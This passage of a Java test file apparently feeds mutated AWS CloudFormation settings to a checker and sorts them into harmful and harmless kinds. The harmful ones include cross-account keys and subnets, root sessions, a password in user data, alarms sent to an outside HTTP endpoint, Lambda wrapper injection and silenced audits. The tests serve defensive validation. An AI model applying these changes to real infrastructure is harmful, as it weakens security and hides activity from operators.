                        "Web",
                        "AWS::SQS::Queue",
                        "/MessageRetentionPeriod",
                        "60"),
                set(
                        "changes",
                        "less storage for the database than it has",
                        "Database",
                        DATABASE,
                        "/AllocatedStorage",
                        "'50'"),
                set(
                        "changes",
                        "less than a tenth more storage for the database",
                        "Database",
                        DATABASE,
                        "/AllocatedStorage",
                        "'109'"),
                set("changes", "an older version of the database", "Database", DATABASE, "/EngineVersion", "'8.0'"),
                set(
                        "changes",
                        "another address range of the VPC",
                        "Network",
                        "AWS::EC2::VPC",
                        "/CidrBlock",
                        "'10.99.0.0/16'"),
                set(
                        "changes",
                        "another name for the database",
                        "Database",
                        DATABASE,
                        "/DBInstanceIdentifier",
                        "'other'"),
                set(
                        "changes",
                        "another master user of the database",
                        "Database",
                        DATABASE,
                        "/MasterUsername",
                        "'root'"),
                set("changes", "a database from a snapshot", "Database", DATABASE, "/DBSnapshotIdentifier", "'old'"),
                gone("changes", "a log that is gone", "Web", "AWS::Logs::LogGroup"),
                gone("changes", "a queue that is gone", "Web", "AWS::SQS::Queue"),
                gone("changes", "a network load balancer that is gone", "LoadBalancer", FRONT_DOOR),
                gone("changes", "a database that is gone", "Database", DATABASE));
    }

    /** Found missing by trying what the first list had not thought of. */
    private static Stream<Change> further() {
        return Stream.of(
                set(
                        "routes",
                        "web servers in somebody else's subnet, too",
                        "Web",
                        GROUP,
                        "/VPCZoneIdentifier/3",
                        "'subnet-0123456789abcdef0'"),
                set(
                        "routes",
                        "the database in AWS's default subnets",
                        "Database",
                        DATABASE,
                        "/DBSubnetGroupName",
                        "'default'"),
                set("names", "a VPC without DNS", "Network", "AWS::EC2::VPC", "/EnableDnsSupport", "false"),
                set(
                        "network-load-balancer",
                        "somebody else's target",
                        "LoadBalancer",
                        TARGETS,
                        "/Targets",
                        "[{'Id': '192.0.2.1'}]"),
                set(
                        "load-balancers",
                        "load balancers that aren't registered with the network load balancer",
                        "LoadBalancer",
                        GROUP,
                        "/TargetGroupARNs",
                        ""),
                set("servers", "servers without user data", "Web", LAUNCHED, "/LaunchTemplateData/UserData", ""),
                set(
                        "servers",
                        "a document that servers run",
                        "Network",
                        "AWS::SSM::Document",
                        "/DocumentType",
                        "'Command'"),
                set(
                        "connections",
                        "memcached at the database, which opens a port",
                        "Database",
                        "AWS::RDS::OptionGroup",
                        "/OptionConfigurations/0/OptionName",
                        "'MEMCACHED'"),
                set(
                        "encryption",
                        "a key that nobody can manage",
                        "Network",
                        KEY,
                        "/BypassPolicyLockoutSafetyCheck",
                        "true"),
                set(
                        "encryption",
                        "a log encrypted with another account's key",
                        "Web",
                        "AWS::Logs::LogGroup",
                        "/KmsKeyId",
                        "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                set(
                        "logs",
                        "flow logs in somebody else's bucket",
                        "Network",
                        "AWS::EC2::FlowLog",
                        "/LogDestinationType",
                        "'s3'"),
                set(
                        "logs",
                        "a database whose audit nobody keeps",
                        "Database",
                        DATABASE,
                        "/EnableCloudwatchLogsExports",
                        "['error', 'slowquery']"),
                set(
                        "passwords",
                        "a password in a command of user data",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/UserData",
                        "{'Fn::Base64': {'Fn::Join': ['', ['mysql ', '{{resolve:ssm-secure:password}}']]}}"),
                gone("functions", "failed events that nobody keeps", "Web", "AWS::Lambda::EventInvokeConfig"),
                of("functions", "events of no Auto Scaling group", templates -> templates
                        .all("Web", RULE)
                        .forEach(rule -> {
                            if (rule.at("/Properties").has("EventPattern")) {
                                put(rule, "/Properties/EventPattern", "{'source': ['aws.s3']}");
                            }
                        })),
                set("roll-outs", "no room for the new servers of a roll-out", "Web", GROUP, "/MaxSize", "'2'"),
                set(
                        "templates",
                        "a value imported from another stack",
                        "Web",
                        GROUP,
                        "/MaxSize",
                        "{'Fn::ImportValue': 'somebody'}"),
                statement(
                        "wildcards",
                        "every key, by a pattern of actions",
                        "{'Effect': 'Allow', 'Action': 'kms:De*', 'Resource': '*'}"),
                statement(
                        "wildcards",
                        "an action of a service that doesn't exist",
                        "{'Effect': 'Allow', 'Action': 's3:Fetch*', 'Resource': 'arn:aws:s3:::a/b'}"));
    }

    /** What is declared as safely as before, and behaves worse. */
    private static Stream<Change> behaviour() {
        return Stream.of(
                set(
                        "roll-outs",
                        "a number of servers that each deployment sets anew",
                        "Web",
                        GROUP,
                        "/DesiredCapacity",
                        "'3'"),
                set(
                        "roll-outs",
                        "load balancers that are replaced because web servers fail",
                        "LoadBalancer",
                        GROUP,
                        "/HealthCheckType",
                        "'ELB'"),
                set(
                        "roll-outs",
                        "servers that get ten seconds to drain",
                        "Web",
                        GROUP,
                        "/LifecycleHookSpecificationList/1/HeartbeatTimeout",
                        "10"),
                set(
                        "roll-outs",
                        "servers that count before they are warm",
                        "LoadBalancer",
                        GROUP,
                        "/DefaultInstanceWarmup",
                        "0"),
                set(
                        "roll-outs",
                        "the newest servers go first",
                        "Web",
                        GROUP,
                        "/TerminationPolicies",
                        "['NewestInstance']"),
                attribute(
                        "network-load-balancer",
                        "no time for connections when a load balancer leaves",
                        TARGETS,
                        "deregistration_delay.timeout_seconds",
                        "0"),
                attribute(
                        "network-load-balancer",
                        "connections to a dead load balancer that stay",
                        TARGETS,
                        "target_health_state.unhealthy.connection_termination.enabled",
                        "false"),
                set(
                        "network-load-balancer",
                        "a dead load balancer that is noticed late",
                        "LoadBalancer",
                        TARGETS,
                        "/HealthCheckIntervalSeconds",
                        "300"),
                set(
                        "connections",
                        "PrivateLink connections past all rules",
                        "LoadBalancer",
                        FRONT_DOOR,
                        "/EnforceSecurityGroupInboundRulesOnPrivateLinkTraffic",
                        "'off'"),
                set(
                        "servers",
                        "a disk from somebody else's snapshot",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/SnapshotId",
                        "'snap-0123456789abcdef0'"),
                set(
                        "servers",
                        "somebody else's kernel",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/KernelId",
                        "'aki-01234567'"),
                set(
                        "servers",
                        "disks that stay behind when servers are terminated",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/DeleteOnTermination",
                        "false"),
                set(
                        "zones",
                        "all servers in one rack",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/Placement",
                        "{'GroupName': 'rack'}"),
                set(
                        "logs",
                        "sessions that nobody logs",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/cloudWatchLogGroupName",
                        "''"),
                set(
                        "servers",
                        "sessions as root",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/runAsDefaultUser",
                        "'root'"),
                gone("servers", "a fixed number of web servers", "Web", "AWS::AutoScaling::ScalingPolicy"),
                set(
                        "database",
                        "a database without automatic upgrades",
                        "Database",
                        DATABASE,
                        "/AutoMinorVersionUpgrade",
                        "false"),
                set(
                        "database",
                        "a database that takes files from its clients",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/local_infile",
                        "'1'"),
                set(
                        "passwords",
                        "statements with passwords in a log",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/general_log",
                        "'1'"),
                set(
                        "functions",
                        "a function with another handler",
                        "Web",
                        FUNCTION,
                        "/Handler",
                        "'java.lang.System::exit'"),
                set("functions", "an old runtime", "Web", FUNCTION, "/Runtime", "'java8.al2'"),
                set("functions", "a function with a time-out of a second", "Web", FUNCTION, "/Timeout", "1"),
                set(
                        "functions",
                        "events for an old version of a function",
                        "Web",
                        "AWS::Lambda::Alias",
                        "/FunctionVersion",
                        "'1'"),
                set("encryption", "a multi-region key", "Database", KEY, "/MultiRegion", "true"),
                set("changes", "a database's disk that can't grow", "Database", DATABASE, "/MaxAllocatedStorage", ""),
                add(
                        "logs",
                        "alarms sent to somebody else by HTTP",
                        "Operations",
                        "AWS::SNS::Subscription",
                        "'Protocol': 'http', 'Endpoint': 'http://example.com', 'TopicArn': 'arn:aws:sns:eu-west-1:999999999999:a'"));
    }

    static Stream<Change> harmless() {
        List<Change> changes = new ArrayList<>(List.of(
                set("", "a tag of the database", "Database", DATABASE, "/Tags", "[{'Key': 'team', 'Value': 'shop'}]"),
                set(
                        "",
                        "a tag of web servers",
                        "Web",
                        GROUP,
                        "/Tags",
                        "[{'Key': 'team', 'Value': 'shop', 'PropagateAtLaunch': true}]"),
                set(
                        "",
                        "another description of a rule",
                        "Network",
                        "AWS::EC2::SecurityGroupIngress",
                        "/Description",
                        "'another'"),
                set("", "another description of a key", "Database", KEY, "/Description", "'another'"),
                set(
                        "",
                        "another description of an alarm",
                        "Web",
                        "AWS::CloudWatch::Alarm",
                        "/AlarmDescription",
                        "'another'"),
                set("", "Performance Insights", "Database", DATABASE, "/EnablePerformanceInsights", "true"),
                set("", "a larger limit of the database's disk", "Database", DATABASE, "/MaxAllocatedStorage", "2000"),
                set(
                        "",
                        "a longer time to end",
                        "Web",
                        GROUP,
                        "/LifecycleHookSpecificationList/1/HeartbeatTimeout",
                        "600"),
                set("", "servers that warm up for longer", "Web", GROUP, "/DefaultInstanceWarmup", "600"),
                set(
                        "",
                        "a lower target for processors",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/TargetTrackingConfiguration/TargetValue",
                        "40"),
                set(
                        "",
                        "sessions that end sooner",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/idleSessionTimeout",
                        "'5'"),
                set(
                        "",
                        "more connections of the database",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/max_connections",
                        "'500'"),
                set(
                        "",
                        "disks that are faster",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Iops",
                        "4000"),
                set("", "another backup window", "Database", DATABASE, "/PreferredBackupWindow", "'02:00-03:00'"),
                set(
                        "",
                        "flow logs every ten minutes",
                        "Network",
                        "AWS::EC2::FlowLog",
                        "/MaxAggregationInterval",
                        "600"),
                set(
                        "",
                        "another name for the dashboard",
                        "Operations",
                        "AWS::CloudWatch::Dashboard",
                        "/DashboardName",
                        "'other'"),
                set(
                        "",
                        "events that are tried for longer",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/MaximumEventAgeInSeconds",
                        "3600"),
                set("", "logs that are kept for longer", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", "731"),
                set("", "passwords that are longer", "Database", SECRET, "/GenerateSecretString/PasswordLength", "40"),
                set(
                        "",
                        "passwords that are changed each day",
                        "Database",
                        "AWS::SecretsManager::RotationSchedule",
                        "/RotationRules/AutomaticallyAfterDays",
                        "1"),
                set("", "health checks less often", "LoadBalancer", TARGETS, "/HealthCheckIntervalSeconds", "10"),
                set("", "servers that are renewed each week", "Web", GROUP, "/MaxInstanceLifetime", "604800"),
                set("", "a function with tracing", "Web", FUNCTION, "/TracingConfig", "{'Mode': 'PassThrough'}"),
                set("", "a pinned image", "Web", LAUNCHED, "/LaunchTemplateData/ImageId", "'ami-0123456789abcdef0'"),
                add(
                        "",
                        "one more alarm",
                        "Web",
                        "AWS::CloudWatch::Alarm",
                        "'AlarmName': 'more', 'MetricName': 'Throttles', 'Namespace': 'AWS/Lambda', 'Dimensions': [{'Name': 'FunctionName', 'Value': 'Scaleup-prod-web-membership'}], 'Threshold': 1, 'EvaluationPeriods': 1, 'ComparisonOperator': 'GreaterThanThreshold', 'AlarmActions': []"),
                add("", "one more metric filter", "Web", "AWS::Logs::MetricFilter", "'FilterPattern': ''"),
                add(
                        "",
                        "a parameter that is no secret",
                        "Web",
                        "AWS::SSM::Parameter",
                        "'Name': '/shop/version', 'Type': 'String', 'Value': '3'"),
                add(
                        "",
                        "an alias of a key",
                        "Database",
                        "AWS::KMS::Alias",
                        "'AliasName': 'alias/shop', 'TargetKeyId': {'Ref': 'Key'}"),
                add("", "a budget", "Operations", "AWS::Budgets::Budget", "'Budget': {}"),
                add(
                        "",
                        "more servers at noon",
                        "Web",
                        "AWS::AutoScaling::ScheduledAction",
                        "'MinSize': 5, 'Recurrence': '0 12 * * *'"),
                of("", "one more output", templates -> ((ObjectNode)
                                templates.parts().get("Web"))
                        .withObject("/Outputs")
                        .set("Name", Templates.any("{'Value': 'shop'}"))),
                of("", "another description of a stack", templates -> {
                    ((ObjectNode) templates.parts().get("Web")).put("Description", "another");
                    put(templates.first("Web", ROLE), "/Metadata/shop", "'3'");
                }),
                of(
                        "",
                        "an order in which resources are created",
                        templates -> put(
                                templates.first("LoadBalancer", "AWS::Logs::MetricFilter"),
                                "/DependsOn",
                                "['%s']".formatted(templates.id("LoadBalancer", "AWS::Logs::LogGroup"))))));
        return Stream.concat(changes.stream(), harmlessProperties());
    }

    /** Thought of as the first of all properties, not of what proofs look at. */
    private static Stream<Change> properties() {
        return Stream.of(
                set(
                        "properties",
                        "a parameter that restarts the database",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/performance_schema",
                        "'1'"),
                set(
                        "changes",
                        "another certificate authority for the database",
                        "Database",
                        DATABASE,
                        "/CACertificateIdentifier",
                        "'rds-ca-rsa4096-g1'"),
                set(
                        "database",
                        "writes that a crash loses",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/innodb_flush_log_at_trx_commit",
                        "'0'"),
                set(
                        "database",
                        "a log of writes that a crash loses",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/sync_binlog",
                        "'0'"),
                set(
                        "properties",
                        "a read-only database",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/read_only",
                        "'1'"),
                set("database", "changes that wait for a week", "Database", DATABASE, "/ApplyImmediately", "false"),
                set(
                        "backups",
                        "backups in another region",
                        "Database",
                        DATABASE,
                        "/AutomaticBackupReplicationRegion",
                        "'us-east-1'"),
                set(
                        "logs",
                        "slow queries that nobody logs",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/slow_query_log",
                        "'0'"),
                set(
                        "logs",
                        "slow queries in a table that nobody exports",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/log_output",
                        "'TABLE'"),
                set(
                        "properties",
                        "an audit that leaves out a user",
                        "Database",
                        "AWS::RDS::OptionGroup",
                        "/OptionConfigurations/0/OptionSettings/1",
                        "{'Name': 'SERVER_AUDIT_EXCL_USERS', 'Value': 'scaleup'}"),
                set(
                        "properties",
                        "flow logs of nothing but their version",
                        "Network",
                        "AWS::EC2::FlowLog",
                        "/LogFormat",
                        "'${version}'"),
                set(
                        "properties",
                        "a log group of a class without metric filters",
                        "LoadBalancer",
                        "AWS::Logs::LogGroup",
                        "/LogGroupClass",
                        "'INFREQUENT_ACCESS'"),
                set(
                        "properties",
                        "an alarm that another alarm silences",
                        "Operations",
                        "AWS::CloudWatch::CompositeAlarm",
                        "/ActionsSuppressor",
                        "'ALARM'"),
                set(
                        "logs",
                        "an alarm that never rings",
                        "Operations",
                        "AWS::CloudWatch::CompositeAlarm",
                        "/AlarmRule",
                        "'FALSE'"),
                set(
                        "logs",
                        "sessions that are logged once they have ended",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/cloudWatchStreamingEnabled",
                        "false"),
                set(
                        "encryption",
                        "a secret encrypted with another account's key",
                        "Database",
                        SECRET,
                        "/KmsKeyId",
                        "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                set(
                        "encryption",
                        "a queue encrypted with another account's key",
                        "Web",
                        "AWS::SQS::Queue",
                        "/KmsMasterKeyId",
                        "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                set(
                        "functions",
                        "a wrapper script before a function's program",
                        "Web",
                        FUNCTION,
                        "/Environment/Variables/AWS_LAMBDA_EXEC_WRAPPER",
                        "'/opt/wrapper'"),
                set(
                        "functions",
                        "options of a function's JVM",
                        "Web",
                        FUNCTION,
                        "/Environment/Variables/JAVA_TOOL_OPTIONS",
                        "'-javaagent:/opt/agent.jar'"),
                set(
                        "properties",
                        "a runtime that stays as it is",
                        "Web",
                        FUNCTION,
                        "/RuntimeManagementConfig",
                        "{'UpdateRuntimeOn': 'Manual', 'RuntimeVersionArn': 'arn:aws:lambda:eu-west-1::runtime:1'}"),
                set(
                        "properties",
                        "failed events for somebody else's queue",
                        "Web",
                        FUNCTION,
                        "/DeadLetterConfig",
                        "{'TargetArn': 'arn:aws:sqs:eu-west-1:999999999999:q'}"),
                set("functions", "a function without room for Java", "Web", FUNCTION, "/MemorySize", "128"),
                set(
                        "properties",
                        "failed events that are too long to keep",
                        "Web",
                        "AWS::SQS::Queue",
                        "/MaximumMessageSize",
                        "1024"),
                set(
                        "functions",
                        "failed events that aren't retried",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/MaximumRetryAttempts",
                        "0"),
                set("zones", "all servers in one rack by their group", "Web", GROUP, "/PlacementGroup", "'rack'"),
                set(
                        "zones",
                        "no replacements in other zones when a zone fails",
                        "Web",
                        GROUP,
                        "/AvailabilityZoneDistribution",
                        "{'CapacityDistributionStrategy': 'balanced-only'}"),
                set(
                        "properties",
                        "servers in somebody else's target group",
                        "Web",
                        GROUP,
                        "/TrafficSources",
                        "[{'Identifier': 'arn:aws:vpc-lattice:eu-west-1:999999999999:targetgroup/tg-1', 'Type': 'vpc-lattice'}]"),
                set(
                        "servers",
                        "servers that no longer scale out",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/TargetTrackingConfiguration/TargetValue",
                        "100"),
                set(
                        "properties",
                        "as many servers as the busiest day",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/TargetTrackingConfiguration/DisableScaleIn",
                        "true"),
                set(
                        "servers",
                        "servers without instance metadata",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/MetadataOptions/HttpEndpoint",
                        "'disabled'"),
                set(
                        "servers",
                        "servers that are too small",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/InstanceType",
                        "'t4g.nano'"),
                set(
                        "network-load-balancer",
                        "health checks on another port",
                        "LoadBalancer",
                        TARGETS,
                        "/HealthCheckPort",
                        "'traffic-port'"),
                set(
                        "network-load-balancer",
                        "a dead load balancer that is noticed after ten checks",
                        "LoadBalancer",
                        TARGETS,
                        "/UnhealthyThresholdCount",
                        "10"),
                of(
                        "roll-outs",
                        "new servers that count as warm at once",
                        templates -> put(
                                templates.first("Web", GROUP),
                                "/UpdatePolicy/AutoScalingInstanceRefresh/Preferences/InstanceWarmup",
                                "0")),
                of(
                        "connections",
                        "a default security group that stays open",
                        templates -> templates.remove(
                                "Network",
                                templates.idOf(
                                        "Network", "AWS::CloudFormation::CustomResource", each -> each.at("/Properties")
                                                .has("DefaultSecurityGroup")))),
                add(
                        "zones",
                        "no servers at night",
                        "Web",
                        "AWS::AutoScaling::ScheduledAction",
                        "'AutoScalingGroupName': 'Scaleup-prod-web', 'MaxSize': 0, 'Recurrence': '0 22 * * *'"),
                add(
                        "encryption",
                        "alarms that a key doesn't let through",
                        "Operations",
                        "AWS::SNS::Topic",
                        "'KmsMasterKeyId': 'alias/aws/sns'"),
                add(
                        "properties",
                        "alarms that a filter drops",
                        "Operations",
                        "AWS::SNS::Subscription",
                        "'Protocol': 'email', 'Endpoint': 'a@example.org', 'FilterPolicy': {'a': ['b']}"),
                set(
                        "database",
                        "another way to log in",
                        "Database",
                        DATABASE,
                        "/EnableIAMDatabaseAuthentication",
                        "true"),
                set("properties", "users from a directory", "Database", DATABASE, "/Domain", "'d-0123456789'"));
    }

    private static Stream<Change> harmlessProperties() {
        return Stream.of(
                set(
                        "",
                        "an alarm that waits for its data",
                        "Web",
                        "AWS::CloudWatch::Alarm",
                        "/TreatMissingData",
                        "'missing'"),
                set("", "subnets without tags", "Network", "AWS::EC2::Subnet", "/Tags", "[]"),
                set(
                        "",
                        "servers with more bandwidth to their disks",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/EbsOptimized",
                        "true"),
                set("", "more room for a function's files", "Web", FUNCTION, "/EphemeralStorage", "{'Size': 1024}"),
                set(
                        "",
                        "slow queries of two seconds",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/long_query_time",
                        "'2'"),
                set("", "longer sessions of a role", "Web", ROLE, "/MaxSessionDuration", "7200"),
                set("", "a longer wait between two steps of scaling", "Web", GROUP, "/Cooldown", "'60'"),
                set(
                        "",
                        "servers of another type with the same processor",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/InstanceType",
                        "'c7g.large'"),
                add(
                        "",
                        "more servers in the morning",
                        "Web",
                        "AWS::AutoScaling::ScheduledAction",
                        "'AutoScalingGroupName': 'Scaleup-prod-web', 'MinSize': 4, 'Recurrence': '0 6 * * *'"));
    }
}
